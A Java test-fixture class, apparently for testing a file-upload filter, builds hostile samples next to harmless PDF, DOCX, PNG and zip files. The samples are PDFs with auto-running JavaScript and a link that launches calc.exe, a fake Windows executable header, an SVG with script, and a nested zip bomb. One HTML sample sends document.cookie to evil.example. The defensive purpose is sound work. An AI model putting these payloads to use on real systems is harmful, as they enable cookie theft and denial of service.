package nl.statenwerk.files;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Crafted files an attacker could upload, and harmless ones of every accepted type, made on the spot. */
public final class HostileFiles {

    private HostileFiles() {}

    /** A one-page PDF whose /OpenAction runs JavaScript when it is opened. */
    public static byte[] pdfWithOpenActionJavaScript() {
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hallo');"));
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A one-page PDF with a link annotation whose action launches a program. */
    public static byte[] pdfWithLaunchingLink() {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage();
            document.addPage(page);
            PDAnnotationLink link = new PDAnnotationLink();
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification(
                    new org.apache.pdfbox.cos.COSString("calc.exe")));
            link.setAction(launch);
            page.getAnnotations().add(link);
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] plainPdf() {
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            return save(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The start of a Windows program (DOS stub and PE header), which is what a renamed .exe begins with. */
    public static byte[] windowsProgram() {
        byte[] bytes = new byte[1024];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        bytes[0x3c] = (byte) 0x80;
        bytes[0x80] = 'P';
        bytes[0x81] = 'E';
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, bytes, 0x4e, stub.length);
        return bytes;
    }

    public static byte[] html() {
        return """
                <!DOCTYPE html>
                <html><head><title>Agenda</title></head>
                <body><p>Agenda</p><script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>
                """.getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] svgWithScript() {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
                  <rect width="10" height="10"/>
                  <script type="text/javascript">alert(document.domain)</script>
                </svg>
                """.getBytes(StandardCharsets.UTF_8);
    }

    /** A zip of a zip of {@code megabytes} of zeros: a few kilobytes that inflate a thousandfold. */
    public static byte[] nestedZipOfZeros(int megabytes) {
        byte[] inner = zip("nullen.bin", new byte[megabytes * 1024 * 1024]);
        return zip("binnen.zip", inner);
    }

    /** A zip with many tiny entries. */
    public static byte[] zipWithEntries(int count) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < count; i++) {
                zip.putNextEntry(new ZipEntry("f" + i + ".txt"));
                zip.write('x');
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    public static byte[] zip(String entryName, byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(9);
            zip.putNextEntry(new ZipEntry(entryName));
            zip.write(content);
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    public static byte[] docx(String text) {
        try (XWPFDocument document = new XWPFDocument()) {
            document.createParagraph().createRun().setText(text);
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            document.write(bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] png() {
        BufferedImage image = new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, "png", bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] save(PDDocument document) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        document.save(bytes);
        return bytes.toByteArray();
    }
}
